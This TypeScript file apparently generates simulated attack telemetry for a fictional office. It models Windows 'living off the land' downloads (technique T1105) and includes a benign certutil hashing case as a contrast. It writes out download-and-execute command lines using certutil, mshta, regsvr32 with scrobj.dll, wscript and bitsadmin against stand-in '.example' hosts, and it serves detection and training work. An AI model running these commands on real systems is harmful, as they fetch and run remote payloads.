import { MINUTE_MS, SECOND_MS, type Span } from '../../core/time.ts';
import { anyAddress } from '../addresses.ts';
import type { Traffic } from '../connect.ts';
import type { Host, Office } from '../office.ts';
import type { Attack, Plan, Plant } from '../plant.ts';
import { PROGRAMS } from '../programs.ts';
import { Draws } from '../random.ts';
import { hoursBefore, Scene } from '../scene.ts';

const NAME = 'lolbin-download';
const FETCH: Traffic = { port: 443, sent: 700, received: 90_000, lastsMs: 2_000 };
const SYSTEM32 = 'C:\\Windows\\System32';

interface Tool {
  readonly name: string;
  readonly line: (url: string) => string;
  readonly port?: number;
}

const TOOLS: readonly Tool[] = [
  { name: 'certutil.exe', line: (url) => `certutil.exe -urlcache -split -f ${url}/a.txt C:\\Users\\Public\\a.exe` },
  { name: 'mshta.exe', line: (url) => `mshta.exe ${url}/b.hta` },
  {
    name: 'regsvr32.exe',
    line: (url) => `regsvr32.exe /s /n /u /i:${url}/c.sct scrobj.dll`,
    port: 8080,
  },
  { name: 'wscript.exe', line: (url) => `wscript.exe //e:jscript C:\\Users\\{user}\\Downloads\\invoice.js ${url}` },
];

/** Tools of Windows that fetch something from outside, each on a workstation of its own; and what they are for. */
export function lolbinDownload(office: Office, span: Span): Attack {
  const draws = new Draws(office.seed, NAME);
  const plan = { office, span, draws };
  const people = draws.shuffle(office.byRole.workstation);
  const attacks = TOOLS.flatMap((tool, at) => {
    const host = people[at];
    return host === undefined ? [] : [fetchBy(plan, host, tool, at)];
  });
  return {
    name: NAME,
    technique: 'T1105',
    hunt: null,
    plants: [...attacks, ...people.slice(4, 5).flatMap((host) => [byBits(plan, host), hashing(plan, host)])],
  };
}

function fetchBy(plan: Plan, host: Host, { name, line, port = 443 }: Tool, at: number): Plant {
  const scene = new Scene(plan, at === 0 ? NAME : `${NAME}.${name.replace('.exe', '')}`, hoursBefore(plan, 8 - at / 2));
  const ip = anyAddress(plan.draws);
  const domain = `files-${plan.draws.hex(6)}.example`;
  const url = `${port === 443 ? 'https' : 'http'}://${domain}${port === 443 ? '' : `:${port}`}`;
  const shell = scene.start(host, {
    path: `${SYSTEM32}\\cmd.exe`,
    line: `cmd.exe /c start /b ${name}`,
    parent: scene.desktop(host),
  });
  const process = scene.wait(SECOND_MS).start(host, { path: `${SYSTEM32}\\${name}`, line: line(url), parent: shell });
  scene
    .lookup(process, domain, [ip])
    .wait(300)
    .connect(process, { ip, domain }, { ...FETCH, port });
  return scene.plant(`${name} fetches a file from outside`, null);
}

/** bitsadmin has no connection of its own: the service fetches for it. */
function byBits(plan: Plan, host: Host): Plant {
  const scene = new Scene(plan, `${NAME}.bitsadmin`, hoursBefore(plan, 5));
  const ip = anyAddress(plan.draws);
  const domain = `files-${plan.draws.hex(6)}.example`;
  const line = `bitsadmin.exe /transfer job /download /priority high https://${domain}/d.ps1 C:\\Users\\Public\\d.ps1`;
  const path = `${SYSTEM32}\\bitsadmin.exe`;
  scene.start(host, { path, line, parent: scene.desktop(host) });
  const service = scene.wait(2 * SECOND_MS).running(host, PROGRAMS.svchost);
  scene.lookup(service, domain, [ip]).wait(300).connect(service, { ip, domain }, FETCH);
  return scene.plant('bitsadmin has the background transfer service fetch a script', null);
}

function hashing(plan: Plan, host: Host): Plant {
  const scene = new Scene(plan, `${NAME}.hashing`, hoursBefore(plan, 4));
  for (const file of ['setup.msi', 'notes.zip']) {
    const line = `certutil.exe -hashfile C:\\Users\\{user}\\Downloads\\${file} SHA256`;
    scene.wait(MINUTE_MS).start(host, { path: `${SYSTEM32}\\certutil.exe`, line, parent: scene.desktop(host) });
  }
  return scene.plant('certutil computes the hash of a file', 'It reaches nothing');
}
